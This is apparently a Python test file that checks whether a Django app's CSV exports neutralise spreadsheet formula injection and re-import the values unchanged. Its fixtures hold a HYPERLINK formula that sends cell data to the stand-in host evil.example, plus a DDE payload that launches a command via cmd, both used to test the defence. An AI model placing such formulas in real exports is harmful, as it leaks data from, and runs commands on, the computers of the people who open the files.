"""Spreadsheet exports never carry a live formula, and re-import exactly (docs/security.md,
"Formulas in exports")."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from detente.alliances.models import HistoryEntry
from detente.objectives.models import Measurement
from detente.spreadsheets import FORMULA_STARTS, neutralise, restore
from tests.objectives.conftest import measure

PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
DANGEROUS = ["=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", "-inf", "＝1+1"]


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def test_it_prefixes_every_formula_start_with_an_apostrophe() -> None:
    for text in DANGEROUS:
        assert neutralise(text) == "'" + text, text


def test_it_leaves_plain_text_and_plain_numbers_alone() -> None:
    for value in ["Joint project ROI", "", "12", "-12.5", "+3", "-1e3", ".5", "a=b", " =x"]:
        assert neutralise(value) == value, value
    for value in [-12, Decimal("-3.5"), None]:
        assert neutralise(value) == value


def test_it_prefixes_a_typed_apostrophe_before_a_formula_again() -> None:
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"
    assert restore("'plain") == "'plain"


@given(st.text())
def test_it_restores_every_neutralised_text_exactly(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(written)


def test_the_measurements_export_neutralises_a_planted_note_and_keeps_negative_numbers(
    cast, kpis
) -> None:
    m = measure(kpis["roi"], cast.side_a, "2026Q1", "-3.5")
    Measurement.objects.filter(pk=m.pk).update(notes=PLANTED)
    for response in (
        cast.client("bob").get(reverse("measurement_export", args=[cast.alliance.pk])),
        cast.client("bob").get(reverse("kpi_export", args=[cast.alliance.pk, kpis["roi"].pk])),
    ):
        header, row = cells(response)
        values = dict(zip(header, row, strict=True))
        assert values["notes"] == "'" + PLANTED
        assert values["value"] == "-3.5"  # a number stays a number


def test_a_neutralised_export_re_imports_to_the_same_text(cast, kpis) -> None:
    m = measure(kpis["roi"], cast.side_a, "2026Q1", "-3.5")
    Measurement.objects.filter(pk=m.pk).update(notes=PLANTED)
    content = (
        cast.client("alice")
        .get(reverse("measurement_export", args=[cast.alliance.pk]) + f"?side={cast.side_a.pk}")
        .content
    )
    Measurement.objects.filter(pk=m.pk).update(notes="changed", value=Decimal("1"))
    upload = SimpleUploadedFile("export.csv", content, content_type="text/csv")
    response = cast.client("alice").post(
        reverse("measurement_import", args=[cast.alliance.pk]), {"file": upload, "action": "import"}
    )
    assert response.status_code == 200, response.context.get("problems")
    m.refresh_from_db()
    assert (m.notes, m.value) == (PLANTED, Decimal("-3.5"))


def test_the_timeline_export_neutralises_a_title_planted_by_the_other_side(cast) -> None:
    HistoryEntry.objects.filter(pk=cast.records["a_joint_history"].pk).update(
        title=PLANTED, notes="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    rows = cells(cast.client("bob").get(reverse("timeline_export", args=[cast.alliance.pk])))
    header = rows[0]
    planted = [dict(zip(header, r, strict=True)) for r in rows[1:] if PLANTED in "".join(r)]
    assert len(planted) == 1
    assert planted[0]["title"] == "'" + PLANTED
    assert planted[0]["notes"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
